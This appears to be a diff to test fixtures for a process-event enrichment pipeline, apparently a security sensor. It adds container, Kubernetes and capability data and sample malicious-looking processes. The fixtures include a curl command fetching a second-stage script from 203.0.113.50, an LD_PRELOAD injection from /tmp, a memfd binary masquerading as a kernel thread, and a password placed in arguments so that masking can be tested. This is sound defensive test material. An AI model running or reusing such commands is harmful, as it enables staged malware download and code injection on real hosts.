@@ -8,9 +8,12 @@ import orjson
 
 from pipeline import wire
 from pipeline.config import Config
+from pipeline.containers import Container
 from pipeline.counters import Counters
 from pipeline.enrich import Describer
-from pipeline.events import Account, Exec, Exit, Fork, HostFacts, ProcessEvent, Stamp, Task
+from pipeline.enrich.kernel_names import ALL_CAPABILITIES
+from pipeline.events import Account, Exec, Exit, File, Fork, HostFacts, ProcessEvent, Script, Stamp, Task
+from pipeline.events import Container as ContainerFact
 from pipeline.process import Ancestor, Credentials, Image, Namespaces, ProcessVersion, entity_id
 
 BOOT_ID = bytes(range(16))
@@ -41,14 +44,28 @@ FACTS: dict[str, Any] = {
 }
 PATTERNS: list[str] = Config.model_fields["mask_patterns"].default
 
-ROOT = Credentials(0, 0, 0, 0, 0, 0, 0, 0, (), cap_permitted=0x1FFFFFFFFFF, cap_effective=0x1FFFFFFFFFF)
-WWW = Credentials(33, 33, 33, 33, 33, 33, 33, 33, (33, 4))
-SUDO = Credentials(1000, 1000, 0, 0, 0, 0, 0, 0, (27, 1000), cap_permitted=0x1FFFFFFFFFF, cap_effective=0xC0)
+ALL = ALL_CAPABILITIES
+ROOT = Credentials(0, 0, 0, 0, 0, 0, 0, 0, cap_permitted=ALL, cap_effective=ALL, cap_bounding=ALL)
+WWW = Credentials(33, 33, 33, 33, 33, 33, 33, 33, (33, 4), cap_bounding=ALL)
+SUDO = Credentials(1000, 1000, 0, 0, 0, 0, 0, 0, (27, 1000), cap_permitted=ALL, cap_effective=0xC0, cap_bounding=ALL)
+CONFINED = Credentials(
+    *(101,) * 8, securebits=0b101111, cap_inheritable=1 << 10, cap_bounding=0xA80425FB, cap_ambient=1 << 10
+)
 
 SYSTEMD = Image("systemd", "/usr/lib/systemd/systemd", ("/sbin/init",))
 NGINX = Image("nginx", "/usr/sbin/nginx", ("nginx", "-g", "daemon off;"))
 BASH = Image("bash", "/usr/bin/bash", ("bash", "-i"))
-CURL = Image("curl", "/usr/bin/curl", ("curl", "http://203.0.113.50/stage2.sh", "-o", "/tmp/s"))
+CURL_FILE = File(1234567, 8 << 20 | 1, 0o100755, 1, 1_700_000_000_123_456_789, 1_700_000_001_000_000_000)
+CURL = Image("curl", "/usr/bin/curl", ("curl", "http://203.0.113.50/stage2.sh", "-o", "/tmp/s"), file=CURL_FILE)
+SCRIPT = Image(
+    "deploy",
+    "/usr/bin/python3.11",
+    ("/usr/bin/python3", "-E", "/opt/deploy", "--token=hunter2"),
+    file=File(99, 253 << 20 | 3, 0o106755, 2, 0, -1, ("upper_layer", "setuid", "setgid", "script")),
+    script=Script("/opt/deploy", "/usr/bin/python3", 77, 253 << 20 | 3, 1),
+    environment=("LD_PRELOAD=/tmp/x.so", "SUDO_USER=alice", "PYTHONSTARTUP=/tmp/a?password=hunter2"),
+)
+MEMFD = Image("3", "memfd:x", ("[kworker/0:1]",), file=File(7, 1, 0o100777, 0, 5, 5, ("memfd",)))
 
 
 def identity(pid: int, start_ns: int) -> str:
@@ -205,7 +222,8 @@ def executed(of: ProcessVersion) -> Exec:
 
 
 def ended(of: ProcessVersion, status: int = 0, *, core_dumped: bool = False) -> Exit:
-    return Exit(Stamp(of.start_ns + 2 * SECOND_NS, 0, 9, wire.EXIT), task(of), status, core_dumped)
+    stamp = Stamp(of.start_ns + 2 * SECOND_NS, 0, 9, wire.EXIT)
+    return Exit(stamp, task(of), status, core_dumped, cpu_ns=1_234_567, memory_peak_bytes=3 << 20)
 
 
 def describer(counters: Counters | None = None, patterns: list[str] | None = None) -> Describer:
@@ -218,6 +236,11 @@ def describer(counters: Counters | None = None, patterns: list[str] | None = Non
     return made
 
 
+def contained(facts: dict[str, Any], container_id: str = "") -> ContainerFact:
+    """What a runtime says of IN_CONTAINER's container, or of another one."""
+    return ContainerFact(Stamp(3, 0, 0, wire.CONTAINER), container_id or WEB.id, facts)
+
+
 def told(event: ProcessEvent, of: ProcessVersion, by: Describer | None = None) -> dict[str, Any]:
     """The document as a value; there is one."""
     document = (by or describer()).describe(event, of)
@@ -226,6 +249,24 @@ def told(event: ProcessEvent, of: ProcessVersion, by: Describer | None = None) -
     return parsed
 
 
+WEB = Container("0123456789abcdef" * 4, "")
+WEB_FACTS: dict[str, Any] = {
+    "container": {
+        "id": WEB.id,
+        "name": "web",
+        "runtime": "containerd",
+        "image": {
+            "name": "registry.example.org:5000/team/web",
+            "tag": ["1.2"],
+            "hash": {"all": ["sha256:" + "ab" * 32]},
+        },
+    },
+    "orchestrator": {
+        "type": "kubernetes",
+        "namespace": "shop",
+        "resource": {"type": "pod", "name": "web-7d4b9", "id": "5b0f3c1e-0000-4000-8000-000000000001"},
+    },
+}
 KERNEL_THREAD = process(
     77,
     Image("kworker/0:1", "", ()),
@@ -262,8 +303,10 @@ IN_CONTAINER = process(
     ns_pid=12,
     pid_ns=CONTAINER_NS,
     credentials=SUDO,
+    container=WEB,
     ancestors=(ancestor(9000, NGINX, ns_pid=1, pid_ns=CONTAINER_NS, credentials=WWW), INIT),
 )
+GONE = process(9300, MEMFD, credentials=CONFINED, end_ns=20_000 * SECOND_NS, doubt=("cut",))
 INTERACTIVE = process(
     9200,
     Image("python3", "/usr/bin/python3.11", ("python3", "-c", "pass")),
@@ -297,6 +340,7 @@ FIRST = process(
 def every_document() -> dict[str, dict[str, Any]]:
     """One of each kind, and of each kind of process."""
     by = describer()
+    by.learn(contained(WEB_FACTS))
     return {
         "fork": told(forked(process(image=BASH)), process(image=BASH), by),
         "exec": told(executed(process()), process(), by),
@@ -304,6 +348,9 @@ def every_document() -> dict[str, dict[str, Any]]:
         "killed": told(ended(INTERACTIVE, 139, core_dumped=True), INTERACTIVE, by),
         "interactive": told(executed(INTERACTIVE), INTERACTIVE, by),
         "container": told(executed(IN_CONTAINER), IN_CONTAINER, by),
+        "script": told(executed(process(image=SCRIPT)), process(image=SCRIPT), by),
+        "confined": told(executed(GONE), GONE, by),
+        "gone": orjson.loads(by.describe_gone(GONE).body),
         "orphan": told(executed(ORPHAN), ORPHAN, by),
         "own_leader": told(forked(OWN_LEADER), OWN_LEADER, by),
         "kernel_thread": told(forked(KERNEL_THREAD), KERNEL_THREAD, by),
